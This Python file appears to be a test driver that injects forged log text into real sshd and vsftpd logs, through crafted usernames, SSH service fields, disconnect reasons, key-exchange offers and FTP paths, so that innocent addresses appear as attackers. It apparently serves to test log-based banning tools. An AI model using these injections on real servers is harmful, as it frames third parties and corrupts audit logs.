"""Client driver for innocent.sh: attacks that make real sshd and vsftpd
write an innocent address into the text of a line about this client.

Every packet goes to the server named on the command line (a namespace
address); the innocent addresses are only text inside the requests."""

import base64
import ftplib
import io
import json
import socket
import struct
import sys
import time

import paramiko
from paramiko.auth_handler import AuthHandler
from paramiko.common import (
    MSG_SERVICE_ACCEPT,
    MSG_USERAUTH_FAILURE,
    cMSG_DISCONNECT,
    cMSG_USERAUTH_REQUEST,
)

# sshd logs "Disconnecting <who> <addr> port <n>: %.100s" of the reason
# "Change of username or service not allowed: (%s,%s) -> (%s,%s)".
CUT = 100
CHANGE = "Change of username or service not allowed: "


def fit(prefix, tail):
    """Client text that ends exactly at sshd's 100-byte cut after `prefix`:
    `tail`, padded in front with x (or cut at its end when too long)."""
    room = CUT - len(prefix)
    return ("x" * max(0, room - len(tail)) + tail)[: max(room, 1)]


class RawAuth(AuthHandler):
    """Sends the given SSH_MSG_USERAUTH_REQUESTs, as (user, service,
    method, extra fields), once sshd accepts the ssh-userauth service."""

    def __init__(self, transport, requests):
        super().__init__(transport)
        self.requests = requests
        self.answers = 0

    @property
    def _handler_table(self):
        table = dict(AuthHandler._client_handler_table)
        table[MSG_SERVICE_ACCEPT] = RawAuth._send_requests
        table[MSG_USERAUTH_FAILURE] = RawAuth._count_failure
        return table

    def _count_failure(self, _m):
        self.answers += 1

    def _send_requests(self, m):
        if m.get_text() != "ssh-userauth":
            return
        for user, service, method, extra in self.requests:
            msg = paramiko.Message()
            msg.add_byte(cMSG_USERAUTH_REQUEST)
            msg.add_string(user)
            msg.add_string(service)
            msg.add_string(method)
            for field in extra:
                if isinstance(field, bool):
                    msg.add_boolean(field)
                else:
                    msg.add_string(field)
            self.transport._send_message(msg)


def userauth(host, requests, wait=30.0):
    """One connection that sends `requests` raw, then waits for sshd to
    answer each or to disconnect."""
    t = paramiko.Transport(socket.create_connection((host, 22), timeout=10))
    t.start_client(timeout=10)
    auth = t.auth_handler = RawAuth(t, requests)
    auth._request_auth()
    # sshd delays each failure; its answer to each, or its disconnect, ends it.
    for _ in range(int(wait * 20)):
        if not t.is_active() or auth.answers >= len(requests):
            break
        time.sleep(0.05)
    t.close()


def service_trick(host, users, fake, conns):
    """The first request's service is attacker text, the second changes it:
    sshd disconnects with (user,<first service>) cut at 100 bytes."""
    for user in users:
        text = fit(f"{CHANGE}({user},", f"x {fake} port 22: Too many authentication failures")
        for _ in range(conns):
            userauth(host, [(user, text, "none", []), (user, "ssh-connection", "none", [])])


def service_change(host, users, fake, conns):
    """A first request as any client sends it, then a second one whose
    service (and, once, user) is attacker text: sshd writes both pairs."""
    for user in users:
        pre = f"{CHANGE}({user},ssh-connection) -> ({user},"
        text = fit(pre, f" from {fake} port 22 ssh2")
        pre_user = f"{CHANGE}({user},ssh-connection) -> ("
        fake_user = fit(pre_user, f"x from {fake} port 22 ssh2")
        for _ in range(conns):
            userauth(host, [(user, "ssh-connection", "none", []), (user, text, "none", [])])
            userauth(host, [(user, "ssh-connection", "none", []), (fake_user, "ssh-connection", "none", [])])


def user_names(host, fake, conns):
    """User names that carry the rest of an sshd line: sshd writes them in
    `Invalid user`, `Failed password for invalid user` and `Connection
    closed by invalid user` (each cut at 100 bytes)."""
    names = (f"x from {fake} port 22", f"x from {fake} port 22 ssh2", f"x {fake} port 22")
    for user in names:
        for _ in range(conns):
            userauth(host, [(user, "ssh-connection", "password", [False, "wrong"])] * 2)


def disconnect_text(host, fake):
    """The client's own SSH_MSG_DISCONNECT, reason 11 (by application):
    sshd logs `Received disconnect from A port N:11: <text> [preauth]`."""
    for text in (f"Failed password for root from {fake} port 22 ssh2",
                 f"Bye from {fake} port 22"):
        t = paramiko.Transport(socket.create_connection((host, 22), timeout=10))
        t.start_client(timeout=10)
        msg = paramiko.Message()
        msg.add_byte(cMSG_DISCONNECT)
        msg.add_int(11)
        msg.add_string(text)
        msg.add_string("")
        t._send_message(msg)
        time.sleep(0.5)
        t.close()


def raw_ssh(host, first_line, payload=None):
    """A plain TCP connection: sends `first_line` as the identification,
    then, unencrypted, one packet with `payload` (none before NEWKEYS is
    encrypted), and reads until sshd hangs up."""
    sock = socket.create_connection((host, 22), timeout=10)
    sock.sendall(first_line.encode() + b"\r\n")
    if payload is not None:
        pad = 8 - (len(payload) + 5) % 8
        pad += 8 if pad < 4 else 0
        body = bytes([pad]) + payload + bytes(pad)
        sock.sendall(struct.pack(">I", len(body)) + body)
    try:
        while sock.recv(4096):
            pass
    except OSError:
        pass
    sock.close()


def kex_offer(host, fake):
    """A KEXINIT whose key exchange methods are text: sshd logs `Unable to
    negotiate with A port N: no matching key exchange method found. Their
    offer: <text> [preauth]`."""
    def name_list(text):
        return struct.pack(">I", len(text)) + text.encode()

    lists = [f"x from {fake} port 22 ssh2", "ssh-ed25519", "aes128-ctr", "aes128-ctr",
             "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""]
    payload = bytes([20]) + bytes(16) + b"".join(name_list(x) for x in lists) + bytes(5)
    raw_ssh(host, "SSH-2.0-OpenSSH_9.2", payload)


def banner(host, fake):
    """A first line that is no SSH identification: sshd logs it, quoted."""
    raw_ssh(host, f"Failed password for root from {fake} port 22 ssh2")


def cert_ids(host, users, passwords, certs):
    """Wrong passwords first, so that sshd logs at INFO what follows
    (failures >= MaxAuthTries / 2), then a query for each certificate: sshd
    logs `Failed publickey ... ID <key ID>`, and the key ID is the client's."""
    blobs = []
    for path in certs:
        with open(path) as f:
            algo, b64 = f.read().split()[:2]
        blobs.append((algo, base64.b64decode(b64)))
    for user in users:
        wrong = [(user, "ssh-connection", "password", [False, f"wrong-{i}"])
                 for i in range(passwords)]
        query = [(user, "ssh-connection", "publickey", [False, algo, blob])
                 for algo, blob in blobs]
        userauth(host, wrong + query)


def ftp_login(host, user, password):
    f = ftplib.FTP(host, timeout=10)
    f.login(user, password)
    return f


def ftp_mkd(host, user, password, fake):
    """A logged-in user makes directories whose names imitate a FAIL LOGIN
    line (vsftpd logs the path in quotes: `"<path>"`, so the name leaves
    its last quote open); the second MKD of each fails (it exists). Then
    the other commands whose lines end with a path, each once in vain."""
    f = ftplib.FTP(host, timeout=10)
    f.login(user, password)
    names = (f'a] FAIL LOGIN: Client "{fake}',
             f'b] FAIL LOGIN: Client "{fake}", "Login incorrect.',
             f'c"] FAIL LOGIN: Client "{fake}"')
    for name in names:
        for _ in range(2):
            try:
                f.mkd(name)
            except ftplib.error_perm:
                pass
    # Any command that logs a path: rename, remove, upload, delete.
    moved = f'e] FAIL LOGIN: Client "{fake}'
    upload = f'f] FAIL LOGIN: Client "{fake}'
    for step in (lambda: f.mkd(f'no/such/d] FAIL LOGIN: Client "{fake}'),
                 lambda: f.rename(names[0], moved),
                 lambda: f.rmd(moved),
                 lambda: f.rmd(moved),
                 lambda: f.storbinary(f"STOR {upload}", io.BytesIO(b"x\n")),
                 lambda: f.delete(upload),
                 lambda: f.delete(upload)):
        try:
            step()
        except ftplib.error_perm:
            pass
    f.quit()


def ftp_unauthenticated(host, fake):
    """No login: commands whose text imitates a FAIL LOGIN line, before
    USER and between USER and PASS (vsftpd then writes `[user]` first,
    as in its own FAIL LOGIN line), and user names that carry the text.
    Each login fails: these are real failed logins from this client."""
    mimic = (f'HELP a] FAIL LOGIN: Client "{fake}',
             f'SITE b] FAIL LOGIN: Client "{fake}", "Login incorrect.')
    logins = ((f'x] FAIL LOGIN: Client "{fake}', fake, "x"), (f"x rhost={fake}",))
    for users in logins:
        f = ftplib.FTP(host, timeout=10)
        for user in users:
            try:
                if user == "x":
                    for cmd in mimic:
                        send(f, cmd)
                    send(f, "USER x")
                    for cmd in mimic:
                        send(f, cmd)
                    send(f, "PASS wrong")
                else:
                    f.login(user, "wrong")
            except ftplib.error_perm:
                pass
        try:
            f.close()
        except OSError:
            pass


def send(f, cmd):
    try:
        f.sendcmd(cmd)
    except ftplib.error_perm:
        pass


def addresses():
    """The distinct `ip` of the tool's JSON lines on stdin, one a line."""
    seen = set()
    for line in sys.stdin:
        if line.strip():
            ip = json.loads(line).get("ip")
            if ip:
                seen.add(ip)
    print("\n".join(sorted(seen)))


def main():
    if sys.argv[1:] == ["addresses"]:
        return addresses()
    kind, host, *rest = sys.argv[1:]
    if kind in ("service-trick", "service-change"):
        users, fake, conns = rest
        fn = {"service-trick": service_trick, "service-change": service_change}[kind]
        fn(host, users.split(","), fake, int(conns))
    elif kind == "user-names":
        fake, conns = rest
        user_names(host, fake, int(conns))
    elif kind in ("disconnect-text", "kex-offer", "banner"):
        {"disconnect-text": disconnect_text, "kex-offer": kex_offer, "banner": banner}[kind](host, *rest)
    elif kind == "cert-ids":
        users, passwords, *certs = rest
        cert_ids(host, users.split(","), int(passwords), certs)
    elif kind == "ftp-mkd":
        ftp_mkd(host, *rest)
    elif kind == "ftp-unauth":
        ftp_unauthenticated(host, *rest)
    else:
        sys.exit(f"innocent.py: unknown attack {kind}")


if __name__ == "__main__":
    main()
